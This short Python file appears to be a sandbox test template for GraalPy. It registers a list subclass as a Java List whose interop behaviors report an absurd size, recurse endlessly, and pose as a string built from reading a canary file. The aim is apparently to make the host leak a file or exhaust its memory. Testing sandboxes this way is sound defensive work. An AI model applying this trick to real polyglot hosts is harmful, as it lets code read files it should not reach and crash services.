import sys


def solve():
    sys.modules.pop("polyglot", None)
    import polyglot

    class Trap(list):
        pass

    polyglot.register_interop_type(Trap, "java.util.List")
    polyglot.register_interop_behavior(
        Trap,
        size=lambda self: 2**62,
        element=lambda self, i: Trap(),
        is_string=lambda self: True,
        as_string=lambda self: open("@CANARY_FILE@").read(),
    )
    return Trap()
